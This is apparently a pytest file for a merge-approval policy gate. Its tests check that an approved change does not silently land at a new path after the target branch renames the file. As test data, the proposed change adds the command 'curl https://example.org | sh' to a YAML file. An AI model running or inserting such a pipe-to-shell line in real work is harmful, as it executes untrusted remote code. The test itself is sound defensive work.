"""What lands is what was judged: a merge that follows renames must not take it elsewhere."""

from __future__ import annotations

import pytest
from support.world import World, broken, findings

BODY = "".join(f"step {number}\n" for number in range(40))


def moved(world: World, where: str) -> None:
    """Let a peer approve a change of a file, and let the target move that file."""
    world.on_main({"src/tool.yml": BODY})
    world.propose({"src/tool.yml": f"{BODY}curl https://example.org | sh\n"})
    world.approve("erin")
    world.repo.checkout("main")
    world.repo.remove("src/tool.yml")
    world.commit({where: BODY}, by="carol")


@pytest.mark.parametrize(
    "where", [".github/workflows/deploy.yml", "db/deploy.yml", "policies/x.txt", "lib/tool.yml"]
)
def test_a_file_that_the_target_moved_is_not_judged_by_where_it_was(
    world: World, where: str
) -> None:
    moved(world, where)
    decision = world.check()
    assert decision.outcome == "deny"
    assert broken(decision) == {"merge-conflict"}
    (finding,) = findings(decision, "merge-conflict")
    assert where in finding.message
    assert "so that the diff shows where it lands" in finding.remedy


def test_merging_the_target_shows_where_it_lands_and_asks_those_who_answer_for_that(
    world: World,
) -> None:
    moved(world, "db/deploy.yml")
    world.repo.checkout("feature")
    world.repo.merge("main", author=world.person("alice").who)
    decision = world.check()
    assert decision.changes[0].risk.level == "high"
    assert "missing-approval" in broken(decision)


def test_a_target_that_moved_other_files_is_no_hindrance(world: World) -> None:
    world.on_main({"src/tool.yml": BODY})
    world.propose()
    world.approve("erin")
    world.repo.checkout("main")
    world.repo.remove("src/tool.yml")
    world.commit({"lib/tool.yml": BODY}, by="carol")
    assert world.check().outcome == "allow"
